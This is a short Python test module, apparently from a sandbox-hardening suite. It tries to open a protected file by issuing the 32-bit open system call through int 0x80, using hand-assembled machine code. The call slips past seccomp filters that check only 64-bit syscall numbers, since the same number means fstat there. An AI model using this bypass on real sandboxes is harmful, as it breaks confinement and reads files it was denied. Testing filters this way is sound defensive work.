"""Opens a file by the door for 32-bit programs, past a filter of 64-bit calls.

The number of 32-bit open is that of 64-bit fstat: a filter of numbers alone lets it through.
"""

import ctypes
import mmap
import signal

EXPECT = "stopped"
BARE = {"escaped", "stopped"}  # kernels are built without it
MACHINES = {"x86_64"}

MAP_32BIT = 0x40


def attack(target):
    def opened():
        page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT)
        page.write(target.secret_file.encode() + b"\0")
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        # push rbx; mov ebx, address; xor ecx, ecx; mov eax, 5 (open); int 0x80; pop rbx; ret
        code = "53 bb" + address.to_bytes(4, "little").hex() + "31c9 b805000000 cd80 5b c3"
        result = target.machine_code(code)
        if result < 0:
            raise OSError(-result, "open by int 0x80")
        return f"descriptor {result}"

    return target.in_child(opened, killed_by=(signal.SIGSYS, signal.SIGKILL, signal.SIGSEGV))
